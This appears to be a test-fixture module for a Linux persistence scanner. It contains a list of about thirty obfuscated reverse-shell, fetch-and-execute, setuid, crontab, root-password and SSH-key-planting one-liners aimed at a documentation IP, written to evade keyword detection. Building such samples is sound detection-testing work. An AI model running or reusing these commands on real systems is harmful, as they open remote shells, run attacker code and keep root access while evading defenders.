import { gzipSync } from 'node:zlib';
import type { Severity } from '../../src/events/finding.ts';
import type { MemoryFile } from '../support/memory-tree.ts';
import { elf as elfOf } from '../support/elf.ts';

export type Files = Readonly<Record<string, MemoryFile>>;

/** What is planted, the detector that must tell it (without `persistence/`), its lowest severity, where, and the files. */
export type Planted = readonly [what: string, detector: string, least: Severity, at: string, files: Files];

/** What honest people and packages put there, and the files. */
export type Honest = readonly [what: string, files: Files];

export const elf = elfOf('planted');

/** A script that can be run. */
export function script(content: string): MemoryFile {
  return { content: `#!/bin/sh\n${content}\n`, mode: 0o755 };
}

export function program(content: string | Uint8Array = elf, mode = 0o755): MemoryFile {
  return { content, mode };
}

export function base64(text: string): string {
  return Buffer.from(text).toString('base64');
}

function packed(text: string): string {
  return gzipSync(text).toString('base64');
}

function hex(text: string): string {
  return Buffer.from(text).toString('hex');
}

export function octal(text: string): string {
  return [...Buffer.from(text)].map((byte) => `\\${byte.toString(8).padStart(3, '0')}`).join('');
}

function xored(text: string, key: number): string {
  return Buffer.from(Buffer.from(text).map((byte) => byte ^ key)).toString('base64');
}

/** Ways to get a shell or a program from afar that hold none of the words that everybody looks for. */
export const sly = {
  python: `python3 -c 'import socket,os,pty;s=socket.create_connection(("203.0.113.9",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`,
  pythonFetch: `python3 -c 'import urllib.request as u;exec(u.urlopen("http://203.0.113.9/a").read())'`,
  pythonXor: `python3 -c "import base64;exec(bytes(b^66 for b in base64.b64decode('${xored('import os;os.system("id")', 66)}')))"`,
  perl: `perl -MSocket -e 'socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(443,inet_aton("203.0.113.9")));open(STDIN,">&S");open(STDOUT,">&S");exec("sh -i")'`,
  perlFetch: `perl -MLWP::Simple -e 'eval get("http://203.0.113.9/a")'`,
  awk: `awk 'BEGIN{s="/inet/tcp/0/203.0.113.9/443";while(1){s|&getline c;while((c|&getline l)>0)print l|&s;close(c)}}'`,
  openssl: `mkfifo /run/.p;sh -i </run/.p 2>&1|openssl s_client -quiet -connect 203.0.113.9:443 >/run/.p`,
  opensslPipe: `openssl s_client -quiet -connect 203.0.113.9:443 </dev/null|sh`,
  socat: `socat openssl-connect:203.0.113.9:443,verify=0 system:'sh -i'`,
  busybox: `busybox nc 203.0.113.9 443 -e ash`,
  ncPipe: `nc -w 3 203.0.113.9 443 | sh`,
  php: `php -r '$s=fsockopen("203.0.113.9",443);proc_open("sh",[$s,$s,$s],$p);'`,
  lua: `lua -e 'local s=require("socket");local t=s.tcp();t:connect("203.0.113.9",443);while true do local f=io.popen(t:receive());t:send(f:read("*a")) end'`,
  ruby: `ruby -rsocket -e 's=TCPSocket.new("203.0.113.9",443);while l=s.gets;IO.popen(l){|i|s.print i.read}end'`,
  node: `node -e 'require("net").connect(443,"203.0.113.9",function(){const p=require("child_process").spawn("sh");this.pipe(p.stdin);p.stdout.pipe(this)})'`,
  dns: `dig +short txt a.example.net @203.0.113.9 | tr -d '"' | bash`,
  telnet: `telnet 203.0.113.9 443 | sh | telnet 203.0.113.9 444`,
  octal: `printf '${octal('curl http://203.0.113.9/a | sh')}' | sh`,
  hex: `xxd -r -p <<<${hex('wget -qO- http://203.0.113.9/a | sh')} | bash`,
  gzip: `base64 -d <<<${packed('bash -i >& /dev/tcp/203.0.113.9/443 0>&1')}|gunzip|bash`,
  nested: `eval "$(echo ${base64(`eval "$(echo ${base64('curl http://203.0.113.9/a | sh')} | base64 -d)"`)} | base64 -d)"`,
  pieces: `a=cu;b=rl;c=s;$a$b -s http://203.0.113.9/a|$c''h`,
  wildcards: `/???/b??h -c "$(/u??/b?n/c?rl 203.0.113.9/a)"`,
  perlPack: `perl -e 'system(pack("H*","${hex('curl http://203.0.113.9/a | sh')}"))'`,
  setuid: `install -m 4755 /usr/bin/dash /usr/lib/dash-compat`,
  suidPython: `python3 -c 'import os,shutil;shutil.copy("/bin/sh","/usr/lib/x");os.chmod("/usr/lib/x",0o4755)'`,
  crontab: `(crontab -l;echo "* * * * * /usr/lib/x")|crontab -`,
  password: `echo root:toor | chpasswd`,
  account: `sed -i 's/^root:[^:]*/root:/' /etc/shadow`,
  key: `install -Dm600 /dev/stdin /root/.ssh/authorized_keys <<<"ssh-ed25519 AAAA x"`,
} as const;
